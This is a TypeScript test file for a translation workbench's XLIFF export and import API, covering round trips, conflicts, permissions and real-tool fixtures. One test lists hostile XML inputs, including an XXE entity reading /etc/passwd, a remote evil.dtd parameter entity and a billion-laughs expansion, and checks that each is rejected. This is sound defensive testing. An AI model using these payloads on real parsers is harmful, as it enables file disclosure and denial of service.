import fs from "node:fs";
import path from "node:path";
import type { Kysely } from "kysely";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { DIALECTS, type TestDatabase } from "../helpers/databases";
import { TestClock, call, signIn, useAuth } from "../helpers/api";
import { xmllint } from "../helpers/xmllint";
import { createUserAccount } from "@/features/auth/server/users";
import { loadStoryContent } from "@/features/stories/server/content";
import { seedSegmentId, seedStories } from "@/features/stories/server/seed";
import { findTranslation, insertDocument, insertSegments, saveTranslation } from "@/features/stories/server/repository";
import { hashSource } from "@/features/stories/stories";
import { LocalEventBus, setEventBus } from "@/features/workbench/server/events";
import { readXliff } from "@/features/exchange/xliff";
import { importXliff } from "@/features/exchange/xliff/server/service";
import { xliffImportReportSchema } from "@/features/exchange/xliff/schemas";
import type { Principal } from "@/features/auth/permissions";
import type { Database } from "@/lib/db/schema";

const PASSWORD = "xliff-password";
const SLUG = "idlib-2020-02-28";
const FIXTURES = path.join(process.cwd(), "tests", "fixtures", "xliff");
const SCHEMAS = path.join(FIXTURES, "schemas");
const seg = (key: string) => seedSegmentId(SLUG, key);

type Json = Record<string, any>;

/** Everything an import could change. */
async function snapshot(db: Kysely<Database>) {
  const count = async (table: "translation_revisions" | "qa_overrides" | "tm_units" | "segments" | "documents" | "comments") =>
    Number((await db.selectFrom(table).select((eb) => eb.fn.countAll<number>().as("n")).executeTakeFirstOrThrow()).n);
  return {
    translations: await db.selectFrom("translations").select(["segment_id", "lang", "text", "status", "version", "source_hash", "updated_by"]).orderBy("segment_id").orderBy("lang").execute(),
    revisions: await count("translation_revisions"),
    overrides: await count("qa_overrides"),
    tm: await count("tm_units"),
    segments: await count("segments"),
    documents: await count("documents"),
    comments: await count("comments"),
  };
}

const escapeText = (s: string) => s.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;");

/** Sets a unit's target text (and optionally its state) in an XLIFF 2.1 or 1.2 export, the way a translator's tool would. */
function setTarget(xml: string, id: string, text: string, state?: string): string {
  const two = xml.includes('version="2.1"');
  const open = two ? `<unit id="${id}"` : `<trans-unit id="${id}"`;
  const close = two ? "</unit>" : "</trans-unit>";
  const start = xml.indexOf(open);
  if (start < 0) throw new Error(`no unit ${id}`);
  const end = xml.indexOf(close, start) + close.length;
  let block = xml.slice(start, end);
  if (two) {
    block = /<target>[\s\S]*?<\/target>/.test(block) ? block.replace(/<target>[\s\S]*?<\/target>/, `<target>${escapeText(text)}</target>`) : block.replace("</source>", `</source>\n        <target>${escapeText(text)}</target>`);
    if (state) block = block.replace(/state="[^"]*"/, `state="${state}"`);
  } else {
    block = block.replace(/(<target[^>]*>)[\s\S]*?<\/target>/, `$1${escapeText(text)}</target>`);
    if (state) block = block.replace(/(<target[^>]*state=")[^"]*"/, `$1${state}"`);
  }
  return xml.slice(0, start) + block + xml.slice(end);
}

/** Points a file's target language at Turkish (attribute values only, bytes otherwise untouched, whatever the encoding). */
function retarget(bytes: Buffer): Uint8Array<ArrayBuffer> {
  const text = bytes
    .toString("latin1")
    .replace(/(\btarget-language=)(["'])[^"']*\2/g, "$1$2tr$2")
    .replace(/(\btrgLang=)(["'])[^"']*\2/g, "$1$2tr$2")
    .replace(/(<(?:\w+:)?target\b[^>]*\bxml:lang=)(["'])[^"']*\2/g, "$1$2tr$2");
  return new Uint8Array(Buffer.from(text, "latin1"));
}

/** What an import answered, in short. */
function outcome(status: number, body: Json) {
  if (status !== 200) return { status, error: body.error.message as string };
  const r = body.report;
  const nonZero = Object.fromEntries(Object.entries(r.counts as Record<string, number>).filter(([, n]) => n > 0));
  return { status, counts: nonZero, reasons: r.reasons };
}

/**
 * The real-tool files of the Okapi test data and Symfony's fixtures, each imported (dry run) into a document made of its
 * own units (segment key = unit id, English source = the unit's source): as they are (their own target language), and
 * retargeted to Turkish. Each either goes through or says precisely, unit by unit, what it cannot take.
 */
const REAL_TOOL: Record<string, { asIs: Json; tr: Json }> = {};

for (const dialect of DIALECTS) {
  describe.skipIf(!dialect.available)(`XLIFF exchange on ${dialect.name}`, () => {
    let t: TestDatabase;
    let translator: string;
    let reviewer: string;
    let admin: string;
    let translatorId: string;

    beforeAll(async () => {
      t = await dialect.create();
      await seedStories(t.db, loadStoryContent());
      const auth = useAuth(t.db, new TestClock());
      setEventBus(new LocalEventBus());
      translatorId = (await createUserAccount(auth, t.db, { name: "Ayşe Demir", email: "ayse@example.org", username: "ayse", password: PASSWORD, grants: [{ role: "translator", lang: "tr" }] }, null)).id;
      await createUserAccount(auth, t.db, { name: "Mehmet Yılmaz", email: "mehmet@example.org", username: "mehmet", password: PASSWORD, grants: [{ role: "reviewer", lang: "tr" }] }, null);
      await createUserAccount(auth, t.db, { name: "Admin", email: "admin@example.org", username: "admin", password: PASSWORD, admin: true }, null);
      translator = (await signIn("ayse", PASSWORD)).cookie!;
      reviewer = (await signIn("mehmet", PASSWORD)).cookie!;
      admin = (await signIn("admin", PASSWORD)).cookie!;
      // A comment to carry as a note, and an outdated translation to flag (its English changed after it was made).
      const c = await call("POST", `/api/v1/translations/${seg("s04")}/tr/comments`, { cookie: translator, json: { body: "Keep “NATO” in capitals & check the day." } });
      expect(c.status).toBe(201);
      const changed = "Additional reporting by Rudaw’s Erbil desk, updated.";
      await t.db.updateTable("segments").set({ source_text: changed, source_hash: hashSource(changed) }).where("id", "=", seg("s35")).execute();
    });
    afterAll(async () => {
      // pg's pool.end() resolves before its clients' sockets are closed; a DROP DATABASE … WITH (FORCE) right
      // after can kill one of them mid-close (an unhandled 57P01). End the pool first and let the sockets close.
      await t?.db.destroy();
      await new Promise((resolve) => setTimeout(resolve, 300));
      await t?.destroy();
    });

    const exportFile = async (version: "2.1" | "1.2", cookie = translator, lang = "tr", slug = SLUG) => {
      const r = await call("GET", `/api/v1/documents/${slug}/xliff?lang=${lang}&version=${version}`, { cookie });
      expect(r.status).toBe(200);
      return r.text();
    };
    const importFile = async (body: BodyInit, query: string, cookie = translator, slug = SLUG) => {
      const r = await call("POST", `/api/v1/documents/${slug}/xliff?${query}`, { cookie, body, headers: { "content-type": "application/xliff+xml" } });
      return { status: r.status, body: (await r.json()) as Json };
    };
    const rowsBy = (report: Json, action: string) => (report.units as Json[]).filter((u) => u.action === action).map((u) => u.unit);

    it("exports XLIFF 2.1 and 1.2 valid against the official schemas, with states, notes, versions and source hashes", async () => {
      const r = await call("GET", `/api/v1/documents/${SLUG}/xliff?lang=tr&version=2.1`, { cookie: translator });
      expect(r.headers.get("content-type")).toContain("application/xliff+xml");
      expect(r.headers.get("content-disposition")).toBe(`attachment; filename="${SLUG}.tr.xlf"`);
      const x2 = await r.text();
      for (const xsd of ["xliff-21/xliff_core_2.0.xsd", "xliff-2.1-workbench.xsd"]) {
        const check = xmllint(x2, { xsd: path.join(SCHEMAS, xsd) });
        expect(check.valid, `${xsd}: ${check.output}`).toBe(true);
      }
      const p2 = readXliff(Buffer.from(x2));
      expect(p2.units.map((u) => u.id)).toEqual(Array.from({ length: 35 }, (_, i) => `s${String(i + 1).padStart(2, "0")}`));
      expect(p2.units.every((u) => u.level === "final" && u.workbench?.version === 1)).toBe(true);
      expect(x2).toMatch(/<unit id="s04"[\s\S]*?<note id="cmt_\w+" category="comment" nw:author="Ayşe Demir"[^>]*>Keep “NATO” in capitals &amp; check the day\.<\/note>/);
      expect(x2).toMatch(/<unit id="s35"[^>]*nw:outdated="yes">/);
      expect(x2).toMatch(/<unit id="s01" name="s01" type="nw:title"/);

      const r12 = await call("GET", `/api/v1/documents/${SLUG}/xliff?lang=tr&version=1.2`, { cookie: translator });
      expect(r12.headers.get("content-disposition")).toBe(`attachment; filename="${SLUG}.tr.xliff12.xlf"`);
      const x12 = await r12.text();
      for (const xsd of ["xliff-1.2-strict-workbench.xsd", "xliff-1.2-transitional-workbench.xsd", "xliff-12/xliff-core-1.2-transitional.xsd"]) {
        const check = xmllint(x12, { xsd: path.join(SCHEMAS, xsd) });
        expect(check.valid, `${xsd}: ${check.output}`).toBe(true);
      }
      expect(x12).toMatch(/<trans-unit id="s05" resname="s05" restype="x-paragraph" xml:space="preserve" approved="yes" nw:version="1"/);
      expect(x12).toContain('<note from="Ayşe Demir" annotates="general">Keep “NATO” in capitals &amp; check the day.</note>');

      // Every signed-in user may export; anonymous callers may not; the source language is no target.
      expect((await call("GET", `/api/v1/documents/${SLUG}/xliff?lang=tr`)).status).toBe(401);
      expect((await call("GET", `/api/v1/documents/${SLUG}/xliff?lang=en`, { cookie: translator })).status).toBe(400);
      expect((await call("GET", `/api/v1/documents/no-such-story/xliff?lang=tr`, { cookie: translator })).status).toBe(404);
    });

    it("re-importing an untouched export (2.1 and 1.2) changes nothing", async () => {
      const before = await snapshot(t.db);
      for (const version of ["2.1", "1.2"] as const) {
        const { status, body } = await importFile(await exportFile(version), `lang=tr&filename=untouched.xlf`);
        expect(status, JSON.stringify(body)).toBe(200);
        expect(body.report).toMatchObject({ applied: false, counts: { update: 0, unchanged: 35, conflict: 0, unmatched: 0, skipped: 0 }, format: { version, producer: "Newsroom Workbench" } });
        expect(body.report.units.find((u: Json) => u.unit === "s35").notes).toEqual(["still_outdated"]);
      }
      expect(await snapshot(t.db)).toEqual(before);
    });

    for (const [version, edits] of [
      ["2.1", { s04: "NATO yetkilileri, durumu ele almak üzere cuma günü ilerleyen saatlerde toplanacak.", s08: "Türkiye Milli Savunma Bakanı Hulusi Akar, televizyonda yayımlanan açıklamasında Rusya'nın iddiasını kesinlikle reddetti." }],
      ["1.2", { s10: "", s12: "" }],
    ] as const) {
      it(`round trip ${version}: export, edit two units in the file, preview (writes nothing), apply: exactly those two change`, async () => {
        let xml = await exportFile(version);
        const texts: Record<string, string> = { ...edits };
        for (const key of Object.keys(texts)) {
          // 1.2: the edit appends a word before the final stop of the current translation.
          if (!texts[key]) texts[key] = (await findTranslation(t.db, seg(key), "tr"))!.text.replace(/\.$/, " da.");
          xml = setTarget(xml, key, texts[key]!, version === "2.1" ? "translated" : "translated");
        }
        const before = await snapshot(t.db);
        const preview = await importFile(xml, `lang=tr&dryRun=1&filename=edited.xlf`);
        expect(preview.status, JSON.stringify(preview.body)).toBe(200);
        expect(preview.body.report).toMatchObject({ dryRun: true, applied: false, counts: { update: 2, unchanged: 33, conflict: 0, unmatched: 0, skipped: 0 } });
        // The answer is what the OpenAPI document says it is.
        expect(() => xliffImportReportSchema.parse(preview.body.report)).not.toThrow();
        const updates = (preview.body.report.units as Json[]).filter((u) => u.action === "update");
        expect(updates.map((u) => [u.unit, u.current.status, u.current.version, u.next.text, u.next.status])).toEqual(Object.entries(texts).map(([k, v]) => [k, "approved", 1, v, "translated"]));
        expect(await snapshot(t.db), "a dry run writes nothing").toEqual(before);

        const applied = await importFile(xml, `lang=tr&filename=edited.xlf&expect=${preview.body.report.planHash}`);
        expect(applied.status, JSON.stringify(applied.body)).toBe(200);
        expect(applied.body.report).toMatchObject({ dryRun: false, applied: true, counts: { update: 2 } });
        const after = await snapshot(t.db);
        const changed = after.translations.filter((row, i) => JSON.stringify(row) !== JSON.stringify(before.translations[i]));
        expect(changed.map((c) => [c.segment_id, c.text, c.status, c.version, c.updated_by])).toEqual(Object.entries(texts).map(([k, v]) => [seg(k), v, "translated", 2, translatorId]));
        expect(after.translations).toHaveLength(before.translations.length);
        expect(after.revisions).toBe(before.revisions + 2);
        const revision = await t.db.selectFrom("translation_revisions").selectAll().where("segment_id", "=", seg(Object.keys(texts)[0]!)).where("lang", "=", "tr").where("version", "=", 2).executeTakeFirstOrThrow();
        expect(revision).toMatchObject({ origin: "import", note: "XLIFF import: edited.xlf", author_id: translatorId });
        // The same file again: the workbench has it now.
        const again = await importFile(xml, `lang=tr&dryRun=1`);
        expect(again.body.report.counts).toMatchObject({ update: 0, conflict: 0, unchanged: 35 });
      });
    }

    it("refuses a repeated language (?lang=tr&lang=ar): a Turkish translator cannot write Arabic, and the attempt is audited", async () => {
      // An Arabic export with s04 changed, sent by the Turkish translator with the language given twice.
      let xml = await exportFile("2.1", admin, "ar");
      xml = setTarget(xml, "s04", "نص كتبه مترجم التركية.", "translated");
      const before = await snapshot(t.db);
      for (const query of ["lang=tr&lang=ar", "lang=ar&lang=tr", "lang=tr&filename=a.xlf&lang=ar"]) {
        const { status, body } = await importFile(xml, query);
        expect(status, query).toBe(400);
        expect(body.error).toMatchObject({ code: "validation_failed", details: { parameter: "lang" } });
      }
      expect(await snapshot(t.db), "nothing written").toEqual(before);
      const denials = await t.db.selectFrom("audit_log").selectAll().where("action", "=", "permission.denied").where("actor_id", "=", translatorId).execute();
      expect(denials.filter((d) => d.details?.includes("repeated_parameter"))).toHaveLength(3);
      // Asked once in Arabic: 403, audited too.
      expect((await importFile(xml, "lang=ar")).status).toBe(403);
      expect(await snapshot(t.db)).toEqual(before);
    });

    it("never overwrites a translation that changed in the workbench since the export: conflict, and the rest still applies", async () => {
      let xml = await exportFile("2.1");
      xml = setTarget(xml, "s06", "Türkiye, saldırının arkasında Esad rejiminin olduğunu düşünüyor.", "translated");
      xml = setTarget(xml, "s09", (await findTranslation(t.db, seg("s09"), "tr"))!.text.replace(/\.$/, " de."), "translated");
      // Meanwhile someone edits s06 in the editor.
      const current = (await findTranslation(t.db, seg("s06"), "tr"))!;
      const put = await call("PUT", `/api/v1/translations/${seg("s06")}/tr`, { cookie: reviewer, json: { text: current.text, status: "draft", baseVersion: current.version } });
      expect(put.status).toBe(200);
      const before = await snapshot(t.db);
      const { body } = await importFile(xml, "lang=tr");
      expect(body.report.counts).toMatchObject({ update: 1, conflict: 1 });
      const conflict = (body.report.units as Json[]).find((u) => u.unit === "s06")!;
      expect(conflict).toMatchObject({ action: "conflict", reason: "changed_since_export", current: { version: 2, status: "draft" }, baseVersion: 1, message: "The workbench translation is now version 2; the file was exported from version 1." });
      const after = await snapshot(t.db);
      const tr = (rows: typeof after.translations, key: string) => rows.find((r) => r.segment_id === seg(key) && r.lang === "tr")!;
      expect(tr(after.translations, "s06")).toEqual(tr(before.translations, "s06"));
      expect(tr(after.translations, "s09")).toMatchObject({ version: 2, status: "translated" });
    });

    it("streams progress lines with Accept: application/x-ndjson (read in a worker thread), ending with the same report", async () => {
      let xml = await exportFile("2.1");
      xml = setTarget(xml, "s20", `${(await findTranslation(t.db, seg("s20"), "tr"))!.text} (güncellendi)`, "translated");
      const r = await call("POST", `/api/v1/documents/${SLUG}/xliff?lang=tr&filename=stream.xlf`, { cookie: translator, body: xml, headers: { "content-type": "application/xliff+xml", accept: "application/x-ndjson" } });
      expect(r.status).toBe(200);
      expect(r.headers.get("content-type")).toContain("application/x-ndjson");
      const lines = (await r.text()).trim().split("\n").map((l) => JSON.parse(l) as Json);
      const phases = lines.filter((l) => l.type === "progress").map((l) => l.phase);
      expect(phases[0]).toBe("upload");
      expect(phases).toContain("parse");
      expect(phases.at(-1), JSON.stringify(lines.at(-1))).toBe("write");
      expect(lines.find((l) => l.phase === "write")).toMatchObject({ units: 1 });
      const done = lines.at(-1)!;
      expect(done).toMatchObject({ type: "done", report: { filename: "stream.xlf", applied: true, counts: { update: 1 } } });
      expect(await findTranslation(t.db, seg("s20"), "tr")).toMatchObject({ status: "translated", version: 2 });
    });

    it("refuses to apply a plan that changed since the preview (409), writing nothing", async () => {
      let xml = await exportFile("2.1");
      xml = setTarget(xml, "s11", (await findTranslation(t.db, seg("s11"), "tr"))!.text.replace(/\.$/, " de."), "translated");
      xml = setTarget(xml, "s13", (await findTranslation(t.db, seg("s13"), "tr"))!.text.replace(/\.$/, " de."), "translated");
      const preview = await importFile(xml, "lang=tr&dryRun=1");
      expect(preview.body.report.counts.update).toBe(2);
      const current = (await findTranslation(t.db, seg("s13"), "tr"))!;
      expect((await saveTranslation(t.db, { segmentId: seg("s13"), lang: "tr", text: current.text, status: "translated", baseVersion: current.version, authorId: null, origin: "editor" })).kind).toBe("saved");
      const before = await snapshot(t.db);
      const applied = await importFile(xml, `lang=tr&expect=${preview.body.report.planHash}`);
      expect(applied.status).toBe(409);
      expect(applied.body.error).toMatchObject({ code: "version_conflict", details: { report: { counts: { update: 1, conflict: 1 } } } });
      expect(await snapshot(t.db)).toEqual(before);
    });

    it("writes all the updates or none: a save that meets a newer version rolls the whole import back", async () => {
      let xml = await exportFile("2.1");
      for (const key of ["s14", "s15", "s16"]) xml = setTarget(xml, key, (await findTranslation(t.db, seg(key), "tr"))!.text.replace(/\.$/, " de."), "translated");
      const principal: Principal = { kind: "user", userId: translatorId, name: "Ayşe Demir", username: "ayse", email: "ayse@example.org", isAdmin: false, grants: [{ role: "translator", lang: "tr" }] };
      // Someone saves s16 between the plan and the writes (just as the import's transaction starts).
      const racing = new Proxy(t.db, {
        get(target, prop) {
          if (prop === "transaction") {
            return () => ({
              execute: async (fn: (trx: unknown) => Promise<unknown>) => {
                const c = (await findTranslation(target, seg("s16"), "tr"))!;
                await saveTranslation(target, { segmentId: seg("s16"), lang: "tr", text: `${c.text} `, status: "draft", baseVersion: c.version, authorId: null, origin: "editor" });
                return target.transaction().execute(fn as never);
              },
            });
          }
          const v = Reflect.get(target, prop, target) as unknown;
          return typeof v === "function" ? (v as (...a: unknown[]) => unknown).bind(target) : v;
        },
      }) as Kysely<Database>;
      const before = await snapshot(t.db);
      await expect(importXliff(racing, Buffer.from(xml), { slug: SLUG, lang: "tr", filename: "race.xlf", dryRun: false, principal, uiLang: "en" })).rejects.toMatchObject({ code: "version_conflict", details: { unit: "s16" } });
      const after = await snapshot(t.db);
      // Only the racing save happened: s14 and s15, written before s16 failed, were rolled back.
      expect(after.translations.filter((row, i) => JSON.stringify(row) !== JSON.stringify(before.translations[i])).map((r) => r.segment_id)).toEqual([seg("s16")]);
      expect(after.revisions).toBe(before.revisions + 1);
    });

    it("applies the quality gate as the editor does: errors skip the unit unless a reviewer overrides them with a reason", async () => {
      let xml = await exportFile("2.1");
      const wrong = (await findTranslation(t.db, seg("s05"), "tr"))!.text.replace("33", "34");
      xml = setTarget(xml, "s05", wrong, "translated");
      const before = await snapshot(t.db);
      const asTranslator = await importFile(xml, "lang=tr");
      expect(asTranslator.status).toBe(200);
      const row = (asTranslator.body.report.units as Json[]).find((u) => u.unit === "s05")!;
      expect(row).toMatchObject({ action: "skipped", reason: "qa", message: "Quality checks found 2 error(s): numbers." });
      expect(row.issues.map((i: Json) => i.check)).toEqual(["numbers", "numbers"]);
      expect(row.issues[0].message).toContain("33");
      expect(await snapshot(t.db)).toEqual(before);
      // A translator may not override.
      expect((await importFile(xml, "lang=tr&qaOverride=Checked%20with%20the%20desk", translator)).status).toBe(403);
      // A reviewer may, with a reason recorded on the revision and in qa_overrides.
      const asReviewer = await importFile(xml, "lang=tr&qaOverride=The%20ministry%20corrected%20the%20figure", reviewer);
      expect((asReviewer.body.report.units as Json[]).find((u) => u.unit === "s05")).toMatchObject({ action: "update", notes: ["qa_overridden"] });
      const override = await t.db.selectFrom("qa_overrides").selectAll().where("segment_id", "=", seg("s05")).executeTakeFirstOrThrow();
      expect(override).toMatchObject({ lang: "tr", version: 2, reason: "The ministry corrected the figure" });
      expect(JSON.parse(override.checks).map((c: Json) => c.check)).toEqual(["numbers", "numbers"]);
    });

    it("imports `final` as approved for a reviewer and as translated for a translator", async () => {
      let xml = await exportFile("2.1");
      xml = setTarget(xml, "s17", (await findTranslation(t.db, seg("s17"), "tr"))!.text.replace(/\.$/, " de."), "final");
      const asTranslator = await importFile(xml, "lang=tr&dryRun=1");
      expect((asTranslator.body.report.units as Json[]).find((u) => u.unit === "s17")).toMatchObject({ action: "update", next: { status: "translated" }, notes: ["approval_needs_reviewer"] });
      const asReviewer = await importFile(xml, "lang=tr", reviewer);
      expect((asReviewer.body.report.units as Json[]).find((u) => u.unit === "s17")).toMatchObject({ action: "update", next: { status: "approved" } });
      expect((await findTranslation(t.db, seg("s17"), "tr"))!).toMatchObject({ status: "approved", version: 2 });
    });

    it("reports unmatched units and other skips, and refuses a file exported from another document", async () => {
      let xml = await exportFile("2.1");
      xml = xml.replace("</file>", `<unit id="s99"><segment state="translated"><source>Nothing.</source><target>Hiçbir şey.</target></segment></unit></file>`);
      xml = setTarget(xml, "s18", "Farklı bir metin.", "initial").replace(/(<unit id="s18"[\s\S]*?<source>)[^<]*/, "$1An older English text.");
      const { body } = await importFile(xml, "lang=tr&dryRun=1");
      expect(body.report.counts).toMatchObject({ unmatched: 1, skipped: 1 });
      expect((body.report.units as Json[]).filter((u) => u.action !== "unchanged").map((u) => [u.unit, u.action, u.reason ?? null])).toEqual([
        ["s18", "skipped", "source_changed"],
        ["s99", "unmatched", null],
      ]);
      const other = (await exportFile("2.1")).replace(/nw:document="[^"]*"/, 'nw:document="another-story"');
      const refused = await importFile(other, "lang=tr&filename=other.xlf");
      expect(refused).toMatchObject({ status: 400, body: { error: { code: "validation_failed", message: 'other.xlf: line 3: this file was exported from the document "another-story", not "idlib-2020-02-28".' } } });
      expect((await importFile(xml, "lang=tr", translator, "no-such-story")).status).toBe(404);
      expect((await importFile(xml, "lang=ar")).status).toBe(403);
      expect((await importFile(xml, "lang=xx")).status).toBe(404);
      expect((await importFile(xml, "lang=en", admin)).status).toBe(400);
    });

    it("rejects hostile and malformed files with a clear message and changes nothing", async () => {
      const before = await snapshot(t.db);
      const head = `<?xml version="1.0" encoding="UTF-8"?>\n`;
      const open = `<xliff xmlns="urn:oasis:names:tc:xliff:document:2.0" version="2.1" srcLang="en" trgLang="tr"><file id="f"><unit id="s04"><segment state="translated"><source>NATO officials will meet later on Friday to discuss the situation.</source><target>`;
      const close = `</target></segment></unit></file></xliff>`;
      const cases: [string, BodyInit, number, RegExp][] = [
        ["external entity", `${head}<!DOCTYPE xliff [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n${open}&x;${close}`, 400, /line 2: the DOCTYPE declares entities/i],
        ["parameter entity", `${head}<!DOCTYPE xliff [<!ENTITY % p SYSTEM "http://example.org/evil.dtd"> %p;]>\n${open}x${close}`, 400, /entit/i],
        ["billion laughs", `${head}<!DOCTYPE xliff [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>\n${open}&c;${close}`, 400, /entit/i],
        ["undeclared entity", `${head}${open}&nbsp;${close}`, 400, /the entity &nbsp; is not defined/],
        ["10,000-deep nesting", `${head}${open}${"<pc id=\"p\">".repeat(10_000)}x${"</pc>".repeat(10_000)}${close}`, 400, /nested more than 64 deep/],
        ["invalid UTF-8", Buffer.concat([Buffer.from(`${head}${open}Toplant`), Buffer.from([0xff, 0xfe]), Buffer.from(`ı${close}`)]), 400, /not valid UTF-8: the byte 0xFF .*line 2/],
        ["wrong namespace", `${head}<xliff xmlns="urn:example:xliff" version="2.1" srcLang="en" trgLang="tr"><file id="f"/></xliff>`, 400, /namespace "urn:example:xliff", which is not XLIFF's/],
        ["not XLIFF", `${head}<tmx version="1.4"><header/><body/></tmx>`, 400, /not an XLIFF file: its root element is <tmx>/],
        ["truncated", `${head}${open}Toplantı`, 400, /Line 2, column \d+: the XML is not well-formed/],
        ["UTF-32", Buffer.from([0x00, 0x00, 0xfe, 0xff, 0, 0, 0, 0x3c]), 400, /UTF-32/],
        ["empty", "", 400, /body is empty/],
        ["no units", `${head}<xliff xmlns="urn:oasis:names:tc:xliff:document:1.2" version="1.2"><file original="x" source-language="en" datatype="plaintext"><body/></file></xliff>`, 400, /holds no translation unit/],
        ["over the size limit", `${head}${open}${"x".repeat(10 * 1024 * 1024)}${close}`, 413, /larger than 10 MB/],
        ["300,000 elements", `${head}${open}${'<ph id="p"/>'.repeat(300_000)}${close}`, 413, /more than 250000 elements/],
        ["a run of 9 million spaces", `${head}${open}${" ".repeat(9_000_000)}x${close}`, 200, /./],
      ];
      for (const [name, body, status, message] of cases) {
        const r = await importFile(body, `lang=tr&filename=${encodeURIComponent(name)}.xlf`);
        expect(r.status, name).toBe(status);
        if (status === 200) {
          // Read in linear time, and refused by the rules (longer than a segment may be): nothing written.
          expect(r.body.report.units[0], name).toMatchObject({ unit: "s04", action: "skipped", reason: "too_long" });
          continue;
        }
        expect(r.body.error.code, name).toBe(status === 413 ? "payload_too_large" : "validation_failed");
        expect(r.body.error.message, name).toMatch(message);
      }
      // The line is in the details too.
      expect((await importFile(`${head}<!DOCTYPE xliff [<!ENTITY x "y">]>\n${open}x${close}`, "lang=tr")).body.error.details).toEqual({ line: 2, problem: "entity_declaration" });
      expect(await snapshot(t.db)).toEqual(before);
    });

    it("no file of the OASIS XLIFF 2.1 and 2.2 invalid test suites crashes or hangs the importer, and none changes anything", async () => {
      const before = await snapshot(t.db);
      const seen: Record<number, number> = {};
      for (const suite of ["xliff-21/core", "xliff-21/modules", "xliff-22/core", "xliff-22/modules"]) {
        const dir = path.join(FIXTURES, "oasis", suite, "invalid");
        for (const f of fs.readdirSync(dir).filter((x) => x.endsWith(".xlf"))) {
          const r = await importFile(fs.readFileSync(path.join(dir, f)), `lang=tr&filename=${f}`);
          seen[r.status] = (seen[r.status] ?? 0) + 1;
          if (r.status === 200) {
            // Read, and reported unit by unit: nothing of them is this document's.
            expect(r.body.report.applied, `${suite}/${f}`).toBe(false);
            expect(r.body.report.counts.update, `${suite}/${f}`).toBe(0);
          } else {
            expect(r.status, `${suite}/${f}: ${JSON.stringify(r.body)}`).toBe(400);
            expect(r.body.error.message, `${suite}/${f}`).toMatch(new RegExp(`^${f.replace(/\./g, "\\.")}: `));
          }
        }
      }
      expect(seen).toEqual({ 200: 312, 400: 12 });
      expect(await snapshot(t.db)).toEqual(before);
      // 324 imports, each a job in the import worker with a connection of its own (slower on PostgreSQL).
    }, 240_000);

    it("takes each real-tool XLIFF (memoQ, Trados, WorldServer, Swordfish, Passolo, Okapi, Symfony…) or reports precisely what it cannot", async () => {
      const files = [
        ...fs.readdirSync(path.join(FIXTURES, "okapi"), { recursive: true }).map((f) => `okapi/${f}`),
        ...fs.readdirSync(path.join(FIXTURES, "symfony")).map((f) => `symfony/${f}`),
      ]
        .filter((f) => /\.(xlf|xliff)$/.test(f))
        .sort();
      expect(files.length).toBe(56);
      let n = 0;
      for (const file of files) {
        const bytes = fs.readFileSync(path.join(FIXTURES, file));
        // A document made of the file's own units, so that what it holds can match.
        const slug = `real-tool-${++n}`;
        let units: { id: string; source: string }[] = [];
        try {
          units = readXliff(bytes).units.filter((u, i, all) => all.findIndex((x) => x.id === u.id) === i);
        } catch {
          // Unreadable: imported into the Idlib story, it must be refused.
        }
        const target = units.length ? slug : SLUG;
        if (units.length) {
          const now = new Date().toISOString();
          await insertDocument(t.db, { id: `doc_${slug}`, slug, title: file, source_lang: "en", status: "draft", published_at: null, source_updated_at: null, created_at: now, updated_at: now });
          await insertSegments(
            t.db,
            units.map((u, i) => ({ id: `seg_${slug}_${i}`, document_id: `doc_${slug}`, key: u.id, position: i + 1, kind: "paragraph" as const, source_text: u.source, source_hash: hashSource(u.source), removed_at: null, created_at: now, updated_at: now })),
          );
        }
        const before = await snapshot(t.db);
        const asIs = await importFile(bytes, `lang=tr&dryRun=1&filename=${encodeURIComponent(path.basename(file))}`, translator, target);
        const tr = await importFile(retarget(bytes), `lang=tr&dryRun=1&filename=${encodeURIComponent(path.basename(file))}`, translator, target);
        expect(await snapshot(t.db), file).toEqual(before);
        REAL_TOOL[file] = { asIs: outcome(asIs.status, asIs.body), tr: outcome(tr.status, tr.body) };
        if (file === "okapi/xliff12/TS09-12-Test01.xlf") {
          // Trados: the one confirmed segment is taken from its <mrk mtype="seg">.
          expect((tr.body.report.units as Json[]).find((u) => u.unit === "22bfcddb-0d5f-4493-b630-1a7bae84fd29")).toMatchObject({ action: "update", next: { text: "Erste Schritte", status: "translated" } });
        }
        if (file === "okapi/xliff12/test1_es.xlf") {
          expect((tr.body.report.units as Json[]).find((u) => u.unit === "0000000004")).toMatchObject({ action: "unchanged" });
        }
      }
      expect(REAL_TOOL).toEqual(EXPECTED_REAL_TOOL);
    }, 120_000);
  });
}

/**
 * What each real-tool file gives: as it is (its own target language), and retargeted to Turkish. What cannot be taken:
 * - another source language than English: the Balancing files (de), OnTram (de-DE), addingElements (enm), and Symfony's
 *   fr-FR / fr resource files: every unit `source_language`;
 * - another target language (fr, es, de, ja…): every unit `target_language`, until retargeted;
 * - not well-formed XML: invalid_xml_entity.xlf (`&#x03;`), invalid-xml-resources.xlf, empty.xlf (0 bytes): 400 with the line;
 * - Symfony's non-valid.xlf (its one <trans-unit> has no id) and resources-2.0-name.xlf (targets but no trgLang): 400;
 * - PAS-10 (Passolo, XLIFF 1.0) repeats ids within its <file> (94 `duplicate`), SF-12-Test01 repeats them across its
 *   <file>s (4 `duplicate`); Trados' structural units and BinUnitTest's "Do not translate" are translate="no";
 * - targets that are copies of the English (RB-12-Test02, Xslt-Test01 with no target language, RB-11's unit 3, JMP-11's
 *   "utf-8", SF-12-Test01's "final") are refused by the quality checks (`qa`: untranslated), as the editor would;
 * - memoQ's and most of Trados' and WorldServer's units have empty targets (or placeholders only): `unchanged`.
 */
const EXPECTED_REAL_TOOL: Record<string, { asIs: Json; tr: Json }> = {
  "okapi/xliff12/Balancing/2LevelGTags.xlf": {
    asIs: {status:200,counts:{skipped:1},reasons:{source_language:1}},
    tr: {status:200,counts:{skipped:1},reasons:{source_language:1}},
  },
  "okapi/xliff12/Balancing/3LevelGTags.xlf": {
    asIs: {status:200,counts:{skipped:1},reasons:{source_language:1}},
    tr: {status:200,counts:{skipped:1},reasons:{source_language:1}},
  },
  "okapi/xliff12/Balancing/3LevelGTagsWithNamespaces.xlf": {
    asIs: {status:200,counts:{skipped:1},reasons:{source_language:1}},
    tr: {status:200,counts:{skipped:1},reasons:{source_language:1}},
  },
